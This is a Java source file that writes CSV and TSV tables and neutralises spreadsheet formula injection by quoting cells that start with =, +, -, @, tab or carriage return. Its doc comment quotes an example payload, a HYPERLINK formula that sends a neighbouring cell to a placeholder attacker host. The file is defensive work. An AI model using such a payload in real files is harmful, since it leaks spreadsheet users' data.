package org.paraterm;

/**
 * Every table paraterm writes as a file: the glossary's CSV, the concordance's CSV and TSV, and
 * the TSV of the {@code mine}, {@code suggest} and {@code align} commands. Each row is one line:
 * CSV as RFC 4180 has it (a cell with a comma, quote or line break in double quotes, quotes
 * doubled, lines ended by CRLF), TSV with tabs and line breaks inside a cell turned into spaces,
 * since TSV has no quoting, and lines ended by LF.
 *
 * <p>Cells are safe to open in a spreadsheet. A cell that begins with {@code =}, {@code +},
 * {@code -}, {@code @}, a tab or a carriage return would be taken for a formula
 * ({@code =HYPERLINK("http://evil.example/?"&A1,"click")} becomes a live link that sends the
 * neighbouring cell away), so such a cell is written with a single quote in front, and in CSV
 * quoted, as OWASP's advice on CSV injection has it: spreadsheets show the text and keep the quote
 * out of sight. So that reading a file back gives every cell exactly as it was, a cell whose
 * leading single quotes are followed by one of those characters gets one more quote too
 * ({@code '=x} is written {@code ''=x}), and {@link #original} takes exactly one away from such a
 * cell: {@code original(neutralised(cell))} is {@code cell} for every cell.
 */
public enum TableFile {

    CSV(',', "\r\n"),
    TSV('\t', "\n");

    /** What a spreadsheet takes as the start of a formula (OWASP, "CSV Injection"). */
    private static final String FORMULA_STARTS = "=+-@\t\r";

    private final char separator;
    private final String lineEnd;

    TableFile(char separator, String lineEnd) {
        this.separator = separator;
        this.lineEnd = lineEnd;
    }

    /** One row, its line end included; a null cell is empty. */
    public String row(String... cells) {
        StringBuilder line = new StringBuilder();
        for (int i = 0; i < cells.length; i++) {
            if (i > 0) {
                line.append(separator);
            }
            String cell = cells[i] == null ? "" : cells[i];
            if (this == TSV) {
                line.append(neutralised(cell.replace('\t', ' ').replace('\n', ' ').replace('\r', ' ')));
                continue;
            }
            String safe = neutralised(cell);
            boolean quoted = !safe.equals(cell) || cell.indexOf(',') >= 0 || cell.indexOf('"') >= 0
                    || cell.indexOf('\n') >= 0 || cell.indexOf('\r') >= 0;
            line.append(quoted ? '"' + safe.replace("\"", "\"\"") + '"' : safe);
        }
        return line.append(lineEnd).toString();
    }

    /** The cell as written: a single quote in front when it would start a formula. */
    public static String neutralised(String cell) {
        return startsAFormulaAfterQuotes(cell, 0) ? "'" + cell : cell;
    }

    /**
     * A cell as read from a file this class wrote: the single quote {@link #neutralised} put in
     * front taken away again, and nothing else changed. Only a cell that begins with a quote and
     * whose leading quotes are followed by {@code =}, {@code +}, {@code -}, {@code @}, a tab or a
     * carriage return loses its first quote.
     */
    public static String original(String cell) {
        return cell.startsWith("'") && startsAFormulaAfterQuotes(cell, 1) ? cell.substring(1) : cell;
    }

    /** Whether the character after the single quotes that open {@code cell} at {@code from} starts a formula. */
    private static boolean startsAFormulaAfterQuotes(String cell, int from) {
        int i = from;
        while (i < cell.length() && cell.charAt(i) == '\'') {
            i++;
        }
        return i < cell.length() && FORMULA_STARTS.indexOf(cell.charAt(i)) >= 0;
    }
}
